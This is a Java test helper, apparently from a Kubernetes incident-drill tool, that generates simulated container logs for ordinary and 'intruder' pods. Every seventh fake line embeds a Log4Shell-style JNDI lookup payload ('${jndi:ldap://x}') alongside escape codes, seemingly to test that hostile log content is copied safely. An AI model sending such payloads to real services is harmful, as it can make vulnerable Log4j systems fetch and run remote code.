package dev.holdfast.drill;

import dev.holdfast.cluster.testing.SimulatedKubelets;
import io.fabric8.kubernetes.api.model.ContainerStatus;
import io.fabric8.kubernetes.api.model.Pod;
import io.fabric8.kubernetes.client.KubernetesClient;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.stream.Stream;

/** What the containers of the simulated cluster have written, each line with the kubelet's time before it. */
final class WrittenLogs {
    private static final int LINES = 40;

    /** More than one part of a multipart upload. */
    private static final int MANY_LINES = 100_000;

    private final Map<CopiedLogs.Name, byte[]> logs = new TreeMap<>();
    private final Map<String, byte[]> byContainerId = new HashMap<>();

    private WrittenLogs() {}

    static WrittenLogs by(KubernetesClient kube, List<Pod> intruders) {
        return by(kube, intruders, MANY_LINES);
    }

    /** @param lines what the first container of the first intruder wrote; the others wrote a few */
    static WrittenLogs by(KubernetesClient kube, List<Pod> intruders, int lines) {
        var written = new WrittenLogs();
        var first = intruders.stream().findFirst();
        for (Pod pod : kube.pods().inAnyNamespace().list().getItems()) {
            boolean isFirst = first.filter(one -> isSame(one, pod)).isPresent();
            var talker = Optional.ofNullable(pod.getStatus()).stream()
                    .flatMap(status -> status.getContainerStatuses().stream())
                    .filter(_ -> isFirst)
                    .findFirst();
            statuses(pod)
                    .forEach(status -> written.write(
                            pod, status, talker.filter(status::equals).isPresent() ? lines : LINES));
        }
        return written;
    }

    private static boolean isSame(Pod one, Pod other) {
        return one.getMetadata().getUid().equals(other.getMetadata().getUid());
    }

    private static Stream<ContainerStatus> statuses(Pod pod) {
        return Optional.ofNullable(pod.getStatus()).stream()
                .flatMap(status -> Stream.of(
                        status.getInitContainerStatuses(),
                        status.getContainerStatuses(),
                        status.getEphemeralContainerStatuses()))
                .flatMap(List::stream);
    }

    private void write(Pod pod, ContainerStatus status, int lines) {
        var state = Optional.ofNullable(status.getState());
        state.map(now -> now.getRunning())
                .ifPresent(running ->
                        write(pod, status, "current", status.getContainerID(), running.getStartedAt(), lines));
        state.map(now -> now.getTerminated())
                .ifPresent(ended -> write(pod, status, "current", ended.getContainerID(), ended.getStartedAt(), LINES));
        Optional.ofNullable(status.getLastState())
                .map(last -> last.getTerminated())
                .ifPresent(
                        ended -> write(pod, status, "previous", ended.getContainerID(), ended.getStartedAt(), LINES));
    }

    private void write(Pod pod, ContainerStatus status, String instance, String id, String since, int lines) {
        var metadata = pod.getMetadata();
        var text = new StringBuilder();
        var at = Instant.parse(since);
        for (int i = 0; i < lines; i++) {
            text.append(at.plusMillis(i))
                    .append(" ")
                    .append(status.getName())
                    .append(" of ")
                    .append(metadata.getName())
                    .append(" line ")
                    .append(i)
                    .append(i % 7 == 0 ? " \u001b[31mGET /?q=${jndi:ldap://x} \u00e9\n" : " GET /cart 200\n");
        }
        byte[] bytes = text.toString().getBytes(StandardCharsets.UTF_8);
        logs.put(new CopiedLogs.Name(metadata.getNamespace(), metadata.getName(), status.getName(), instance), bytes);
        byContainerId.put(id, bytes);
    }

    void giveTo(SimulatedKubelets kubelets) {
        byContainerId.forEach(kubelets::log);
    }

    Set<CopiedLogs.Name> names() {
        return logs.keySet();
    }

    /** What that container wrote; nothing where there is no such container. */
    byte[] of(CopiedLogs.Name name) {
        return logs.getOrDefault(name, new byte[0]);
    }
}
